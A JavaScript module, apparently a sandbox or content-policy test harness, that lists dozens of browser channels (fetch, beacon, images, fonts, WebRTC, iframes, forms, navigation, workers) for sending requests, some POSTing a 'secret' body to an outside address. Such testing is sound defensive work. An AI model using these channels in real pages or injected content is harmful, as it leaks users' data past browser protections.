// Every way in which a script can make a browser send something. Each attempt is a function that runs inside the page or
// inside a worker; it gets the outside's addresses and a name that the outside sees in the path.
// An attempt may throw or be refused; what is judged is whether it arrives.

const wait = (ms) => `await new Promise((done) => setTimeout(done, ${ms}));`;

/** In the page; the page stays where it is. */
export const pageChannels = {
  fetch: (to) => fetch(`${to.http}/fetch`),
  'fetch-no-cors': (to) => fetch(`${to.http}/fetch-no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch-keepalive': (to) => fetch(`${to.http}/fetch-keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
  'fetch-other-port': (to) => fetch(`${to.tcp}/tcp`, { mode: 'no-cors' }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${to.http}/xhr`);
    request.send('secret');
  },
  websocket: (to) => void new WebSocket(`${to.ws}/websocket`),
  eventsource: (to) => void new EventSource(`${to.http}/eventsource`),
  beacon: (to) => void navigator.sendBeacon(`${to.http}/beacon`, 'secret'),
  image: (to) => {
    new Image().src = `${to.http}/image`;
  },
  'image-srcset': (to) => {
    new Image().srcset = `${to.http}/image-srcset 1x`;
  },
  'svg-image': (to) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${to.http}/svg-image`);
    svg.append(image);
    document.body.append(svg);
  },
  'input-image': (to) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = `${to.http}/input-image`;
    document.body.append(input);
  },
  video: (to) => {
    const video = document.createElement('video');
    video.preload = 'auto';
    video.src = `${to.http}/video`;
    document.body.append(video);
  },
  'video-poster': (to) => {
    const video = document.createElement('video');
    video.poster = `${to.http}/video-poster`;
    document.body.append(video);
  },
  script: (to) => {
    const script = document.createElement('script');
    script.src = `${to.http}/script`;
    document.head.append(script);
  },
  import: (to) => import(`${to.http}/import`),
  stylesheet: (to) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${to.http}/stylesheet`;
    document.head.append(link);
  },
  prefetch: (to) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${to.http}/prefetch`;
    document.head.append(link);
  },
  preload: (to) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'fetch';
    link.href = `${to.http}/preload`;
    document.head.append(link);
  },
  modulepreload: (to) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = `${to.http}/modulepreload-script`;
    document.head.append(link);
  },
  'css-background': (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url("${to.http}/css-background"); }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'style-property': (to) => {
    document.body.style.setProperty('border-image-source', `url("${to.http}/style-property")`);
  },
  font: async (to) => {
    await new FontFace('outside', `url("${to.http}/font")`).load();
  },
  iframe: (to) => {
    const frame = document.createElement('iframe');
    frame.src = `${to.http}/iframe`;
    document.body.append(frame);
  },
  object: (to) => {
    const object = document.createElement('object');
    object.data = `${to.http}/object`;
    document.body.append(object);
  },
  embed: (to) => {
    const embed = document.createElement('embed');
    embed.src = `${to.http}/embed`;
    document.body.append(embed);
  },
  'form-in-frame': (to) => {
    const frame = document.createElement('iframe');
    frame.name = 'form-target';
    const form = document.createElement('form');
    form.action = `${to.http}/form-in-frame`;
    form.method = 'post';
    form.target = 'form-target';
    document.body.append(frame, form);
    form.submit();
  },
  ping: (to) => {
    const link = document.createElement('a');
    link.href = '#nothing';
    link.ping = `${to.http}/ping`;
    document.body.append(link);
    link.click();
  },
  'blob-worker': (to) => {
    const text = `fetch('${to.http}/blob-worker', { mode: 'no-cors' })`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'speculation-rules': (to) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${to.http}/speculation`], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  webtransport: (to) => void new WebTransport(to.transport),
  'webrtc-udp': async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    peer.createDataChannel('outside');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'webrtc-tcp': async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: to.turn, username: 'secret', credential: 'secret' }] });
    peer.createDataChannel('outside');
    await peer.setLocalDescription(await peer.createOffer());
  },
};

/** In the page; these leave it or open another one. A policy alone does not stop all of them. */
export const leavingChannels = {
  'window-open': (to) => void window.open(`${to.http}/window-open`),
  'window-open-noopener': (to) => void window.open(`${to.http}/window-open-noopener`, '_blank', 'noopener'),
  location: (to) => {
    location.href = `${to.http}/location`;
  },
  'link-click': (to) => {
    const link = document.createElement('a');
    link.href = `${to.http}/link-click`;
    document.body.append(link);
    link.click();
  },
  'link-download': (to) => {
    const link = document.createElement('a');
    link.href = `${to.http}/link-download`;
    link.download = 'secret';
    document.body.append(link);
    link.click();
  },
  'meta-refresh': (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${to.http}/meta-refresh`;
    document.head.append(meta);
  },
  form: (to) => {
    const form = document.createElement('form');
    form.action = `${to.http}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
};

/** In a worker. */
export const workerChannels = {
  'worker-fetch': (to) => fetch(`${to.http}/worker-fetch`),
  'worker-fetch-no-cors': (to) => fetch(`${to.http}/worker-fetch-no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'worker-xhr': (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${to.http}/worker-xhr`);
    request.send('secret');
  },
  'worker-websocket': (to) => void new WebSocket(`${to.ws}/worker-websocket`),
  'worker-eventsource': (to) => void new EventSource(`${to.http}/worker-eventsource`),
  'worker-import': (to) => import(`${to.http}/worker-import`),
  'worker-nested': (to) => {
    const text = `fetch('${to.http}/worker-nested', { mode: 'no-cors' })`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'worker-webtransport': (to) => void new WebTransport(to.transport),
  'worker-font': async (to) => {
    await new FontFace('outside', `url("${to.http}/worker-font")`).load();
  },
  'worker-cache': async (to) => {
    const cache = await caches.open('outside');
    await cache.add(new Request(`${to.http}/worker-cache`, { mode: 'no-cors' }));
  },
};

/** The text of an expression that makes one attempt and never fails; what it says tells whether it was refused at once. */
export function attempt(run, to) {
  return `(async () => {
    try {
      const attempted = (${run})(${JSON.stringify(to)});
      await Promise.race([Promise.resolve(attempted).catch(() => 'refused'), new Promise((done) => setTimeout(done, 250))]);
    } catch { return 'refused'; }
    ${wait(20)}
    return 'made';
  })()`;
}
